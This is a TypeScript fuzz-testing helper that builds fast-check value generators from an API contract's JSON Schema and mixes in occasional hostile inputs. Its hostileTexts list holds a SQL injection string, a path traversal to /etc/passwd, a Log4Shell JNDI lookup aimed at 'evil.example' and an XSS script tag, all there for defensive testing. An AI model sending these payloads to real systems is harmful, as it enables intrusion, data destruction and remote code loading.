import document from '@heartwood/api-contract/document';
import * as fc from 'fast-check';

/** The subset of JSON Schema that the contract uses. */
export interface Schema {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  anyOf?: Schema[];
  oneOf?: Schema[];
  allOf?: Schema[];
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  items?: Schema;
  pattern?: string;
  format?: string;
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  maxItems?: number;
}

/** Resolves a reference within the contract. */
export function resolved<Value extends { $ref?: string }>(value: Value): Value {
  if (!value.$ref) return value;
  const found = value.$ref
    .slice(2)
    .split('/')
    .reduce<unknown>((inner, part) => (inner as Record<string, unknown>)[part], document);
  return resolved(found as Value);
}

/** Strings that tend to break parsers and storage. */
export const hostileTexts = [
  '',
  ' ',
  '\0',
  '\ud800',
  '\u202e',
  '\u200b',
  '😀'.repeat(50),
  'a'.repeat(3000),
  '%',
  '%00',
  '_',
  "'; drop table account; --",
  '../../etc/passwd',
  '${jndi:ldap://evil.example}',
  '<script>alert(1)</script>',
  '-1',
  '1e308',
  'NaN',
  'Infinity',
  'true',
  'null',
  '[]',
  '{}',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30',
  '0000-00-00',
  'toString',
  'hasOwnProperty',
];

const hostileNumbers = [0, -1, 0.5, 1e308, -1e308, 2 ** 31, 2 ** 53, 2 ** 63, Number.MIN_VALUE];

/** Any value at all. */
export const hostile: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileTexts),
  fc.constantFrom(...hostileNumbers),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .anything({ maxDepth: 3, withNullPrototype: false })
    .map((value) => JSON.parse(JSON.stringify(value) ?? 'null')),
  fc.constantFrom(null, true, false, [], {}, [[]], [null]),
);

function textOf(schema: Schema): fc.Arbitrary<string> {
  if (schema.format === 'date-time')
    return fc.date({ noInvalidDate: true }).map((date) => date.toISOString());
  if (schema.pattern)
    return fc.stringMatching(new RegExp(schema.pattern.replaceAll(String.raw`\d`, '[0-9]')));
  const { minLength = 0, maxLength = 200 } = schema;
  return fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, 200) });
}

function fitting(schema: Schema): fc.Arbitrary<unknown> {
  const { enum: options, anyOf, oneOf, type, properties = {}, required = [] } = resolved(schema);
  const known = resolved(schema);
  if (options) return fc.constantFrom(...options);
  const choices = anyOf ?? oneOf;
  if (choices) return fc.oneof(...choices.map(valueOf));
  const [first = 'object', ...more] = [type ?? 'object'].flat();
  if (more.length > 0) return fc.oneof(...[first, ...more].map((one) => valueOf({ ...known, type: one })));
  if (first === 'null') return fc.constant(null);
  if (first === 'boolean') return fc.boolean();
  if (first === 'string') return textOf(known);
  if (first === 'array') return fc.array(valueOf(known.items ?? {}), { maxLength: known.maxItems ?? 5 });
  const { minimum: min = -1e9, maximum: max = 1e9 } = known;
  if (first === 'integer')
    return fc.integer({ min: Math.max(min, -(2 ** 31)), max: Math.min(max, 2 ** 31 - 1) });
  if (first === 'number') return fc.double({ min, max, noNaN: true });
  const fields = Object.fromEntries(
    Object.entries(properties).map(([name, inner]) => [name, valueOf(inner)]),
  );
  return fc.record(fields, { requiredKeys: required.filter((name) => name in fields) });
}

/** Mostly values that match the schema, occasionally anything. */
export function valueOf(schema: Schema): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 12, arbitrary: fitting(schema) }, { weight: 1, arbitrary: hostile });
}
